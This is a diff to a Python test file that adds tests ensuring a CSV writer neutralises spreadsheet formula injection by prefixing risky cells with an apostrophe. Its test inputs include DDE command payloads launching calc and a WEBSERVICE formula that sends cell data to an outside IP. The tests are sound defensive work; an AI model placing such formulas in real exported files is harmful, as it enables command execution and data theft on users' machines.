@@ -147,10 +147,30 @@ def test_json_is_valid_and_harmless(text: str, value: float) -> None:
 
 @given(st.lists(st.tuples(st.text(max_size=30), st.integers()), max_size=5))
 def test_csv_gives_back_what_went_in(values: list[tuple[str, int]]) -> None:
-    items = [{"a": text, "b": value} for text, value in values]
+    items = [{"a": f"x{text}", "b": value} for text, value in values]
     written = "".join(csv_lines(items, ("a", "b"), terminal=False))
     read = list(csv.reader(io.StringIO(written, newline="")))
-    assert read == [["a", "b"], *([text, str(value)] for text, value in values)]
+    assert read == [["a", "b"], *([f"x{text}", str(value)] for text, value in values)]
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "=cmd|'/c calc'!A0", "@SUM(A1)", "+1+cmd|' /c calc'!A0", "-2+3+cmd|'/c calc'!A0", "- HYPERLINK(1)",
+        '\t=WEBSERVICE("http://192.0.2.1/"&A1)', "\r\n=1+1", "＝1+1",
+    ],
+)  # fmt: skip
+def test_csv_holds_nothing_that_a_spreadsheet_would_compute(text: str) -> None:
+    written = "".join(csv_lines([{"a": text}], ("a",), terminal=False))
+    assert list(csv.reader(io.StringIO(written, newline=""))) == [["a"], [f"'{text}"]]
+
+
+@pytest.mark.parametrize(
+    "text", ["- an item", "-2", "+49 30 901820", "a=b", "-", "", "'=1", "x@example.org", "--dry-run"]
+)
+def test_csv_leaves_what_is_no_formula_as_it_is(text: str) -> None:
+    written = "".join(csv_lines([{"a": text, "b": 1}], ("a", "b"), terminal=False))
+    assert list(csv.reader(io.StringIO(written, newline=""))) == [["a", "b"], [text, "1"]]
 
 
 def test_csv_on_a_terminal_is_harmless() -> None:
